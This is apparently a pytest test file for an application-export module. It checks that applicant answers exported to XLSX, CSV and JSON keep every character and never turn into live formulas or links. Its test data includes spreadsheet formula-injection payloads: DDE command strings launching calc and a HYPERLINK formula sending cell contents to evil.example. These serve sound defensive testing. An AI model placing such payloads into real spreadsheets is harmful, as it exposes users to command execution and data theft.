"""What people take away: every word whole, and nothing in it that a spreadsheet would run."""

import csv
import io
import json
import shutil
import stat
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from inbox_worker.core.effects import ApplicationState
from inbox_worker.core.scheme import Field, FieldKind, Scheme
from inbox_worker.exports import ExportError, as_csv, as_json, as_xlsx, charts, table, write
from inbox_worker.records import Application, StoredValue
from inbox_worker.workbook import Table, acts, workbook
from tests.fixtures_mail import required

AT = datetime(2026, 7, 6, 9, 30, tzinfo=UTC)
SCHEME = Scheme(
    key="runners",
    name="Lunch Runners",
    role="Runner",
    reference="RUN",
    mentions=("lunch runner",),
    role_words=(),
    topic_words=(),
    others=(),
    fields=(
        Field("who", "Name", FieldKind.NAME),
        Field("club", "Club", FieldKind.SHORT),
        Field("why", "Why do you run?", FieldKind.TEXT),
    ),
    templates="any",
)
HOSTILE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "  =1+1",
    "\u3000＝1+1",
    "＋1",
    "|calc",
    "\t=1+1",
    "https://evil.example/a",
    "{=1+1}",
    "_x003D_1+1",
    "12345678901234567890",
    "<b>bold</b> & <script>x</script>",
    "abc\u202edcb\u200b",
    "nul\x01",
    "first line\nsecond line",
    "'already quoted",
]


def application(number: int, **values: str) -> Application:
    stored = {key: StoredValue(key, text, "body line 1", 0.9, None, AT, "worker") for key, text in values.items()}
    return Application(
        id=number,
        reference=f"RUN-{number:04d}",
        scheme="runners",
        state=ApplicationState.RECEIVED,
        sender=f"p{number}@example.org",
        mailbox="box",
        received_at=AT,
        updated_at=AT,
        values=stored,
    )


HOSTILE_ONES = [application(n, who=text, club=text, why=text) for n, text in enumerate(HOSTILE, 1)]


def shown(text: str) -> str:
    """What a reader must see: hidden characters as their code points."""
    return text.replace("\u202e", "[U+202E]").replace("\u200b", "[U+200B]").replace("\x01", "[U+0001]")


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_no_cell_of_the_spreadsheet_is_a_formula_or_a_link_and_every_text_is_whole() -> None:
    content = as_xlsx(HOSTILE_ONES, SCHEME, "Europe/London", "club")
    sheet = opened(content)["Applications"]
    kinds = {cell.data_type for page in opened(content) for row in page for cell in row if cell.value is not None}
    assert kinds <= {"s", "d", "n"}
    found = {sheet.cell(row, 1).value: sheet.cell(row, 12).value for row in range(2, sheet.max_row + 1)}
    assert found == {f"RUN-{n:04d}": shown(text) for n, text in enumerate(HOSTILE, 1)}
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = "".join(parts.read(name).decode() for name in parts.namelist() if "worksheets/" in name)
    assert "<f>" not in sheets
    assert "<hyperlink" not in sheets


def test_a_cell_that_could_act_is_marked_as_text_for_editing_too() -> None:
    sheet = opened(as_xlsx(HOSTILE_ONES, SCHEME, "Europe/London"))["Applications"]
    marked = {sheet.cell(row, 12).value: sheet.cell(row, 12).quotePrefix for row in range(2, sheet.max_row + 1)}
    assert marked["=1+1"]
    assert marked["\u3000＝1+1"]
    assert not marked["first line\nsecond line"]
    assert all(bool(mark) == acts(text) for text, mark in marked.items())


def test_libreoffice_reads_the_texts_and_computes_nothing(tmp_path: Path) -> None:
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        required("LibreOffice is not installed")
    path = tmp_path / "applications.xlsx"
    path.write_bytes(as_xlsx(HOSTILE_ONES, SCHEME, "Europe/London", "club"))
    form = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"
    command = [str(program), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", form]
    subprocess.run([*command, "--outdir", str(tmp_path), str(path)], check=True, capture_output=True, timeout=120)
    (converted,) = tmp_path.glob("*.csv")
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
    assert [row[11] for row in rows[1:]] == [shown(text) for text in HOSTILE]


def test_no_cell_of_the_csv_file_can_act() -> None:
    text = as_csv(table(HOSTILE_ONES, SCHEME, "Europe/London"))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert not [cell for row in rows for cell in row if acts(cell)]
    assert [row[11].removeprefix("'") for row in rows[1:]] == [shown(text).removeprefix("'") for text in HOSTILE]
    assert {len(row) for row in rows} == {12}
    assert text.count('"') == 2 * sum(len(row) for row in rows) + 2 * sum(
        cell.count('"') for row in rows for cell in row
    )


def test_json_keeps_every_letter() -> None:
    found = json.loads(as_json(HOSTILE_ONES, SCHEME))
    assert [each["fields"]["why"]["value"] for each in found] == HOSTILE
    assert found[0]["fields"]["why"]["source"] == "body line 1"


@pytest.mark.parametrize("letter", ["x", "ü", "\U0001f642"], ids=["ascii", "latin", "beyond the basic plane"])
def test_an_answer_longer_than_a_cell_goes_on_below_under_the_same_reference(letter: str) -> None:
    answer = "".join(f"{number:05d}{letter}" for number in range(12_000))
    content = as_xlsx([application(1, why=answer), application(2, why="short")], SCHEME, "UTC")
    sheet = opened(content)["Applications"]
    rows = [(sheet.cell(row, 1).value, sheet.cell(row, 12).value) for row in range(2, sheet.max_row + 1)]
    assert "".join(text for reference, text in rows if reference == "RUN-0001") == answer
    assert rows[-1] == ("RUN-0002", "short")
    assert all(len(text.encode("utf-16-le")) // 2 <= 32_767 for _, text in rows)


def test_times_are_times_in_the_sites_zone() -> None:
    sheet = opened(as_xlsx([application(1)], SCHEME, "Europe/London"))["Applications"]
    assert sheet.cell(2, 3).value == datetime(2026, 7, 6, 10, 30)
    (row,) = table([application(1)], SCHEME, "Europe/London").rows
    assert '"2026-07-06 10:30"' in as_csv(table([application(1)], SCHEME, "Europe/London"))
    assert row[0] == "RUN-0001"


def test_charts_show_applications_by_week_and_by_the_field_that_the_site_names() -> None:
    ones = [application(1, club="Harriers"), application(2, club="harriers"), application(3)]
    received = [(each.received_at, each.texts().get("club", "")) for each in ones]
    by_week, by_club = charts(received, SCHEME, "Europe/London", "club", "last 13 weeks")
    assert (by_week.title, by_club.title) == (
        "Applications by week, last 13 weeks",
        "Applications by Club, last 13 weeks",
    )
    assert by_week.points == (("6 July 2026", 3),)
    assert by_club.points == (("Harriers", 2), ("not given", 1))
    with zipfile.ZipFile(io.BytesIO(as_xlsx(ones, SCHEME, "Europe/London", "club"))) as parts:
        drawn = [name for name in parts.namelist() if name.startswith("xl/charts/chart")]
        described = parts.read("xl/drawings/drawing1.xml").decode()
    assert len(drawn) == 2
    assert "Applications by Club. The figures stand in columns A and B." in described
    sheet = opened(as_xlsx(ones, SCHEME, "Europe/London", "club"))["Charts"]
    cells = [(row[0].value, row[1].value) for row in sheet if row[0].value]
    assert ("Harriers", 2) in cells


def test_nothing_to_draw_leaves_no_empty_chart() -> None:
    assert opened(as_xlsx([], SCHEME, "UTC", "club")).sheetnames == ["Applications"]


def test_a_sheet_may_have_any_name() -> None:
    book = opened(workbook([Table("A/B [draft]: a name that is much too long for a sheet", ("Head",), (("x",),))]))
    assert book.sheetnames == ["A B draft a name that is much t"]


def test_a_file_is_for_its_owner_alone_and_replaces_an_open_one(tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    out.write_text("old")
    out.chmod(0o644)
    write(out, b"new")
    assert out.read_bytes() == b"new"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [out]
    with pytest.raises(ExportError, match="name another file"):
        write(tmp_path / "nowhere" / "a.csv", b"x")
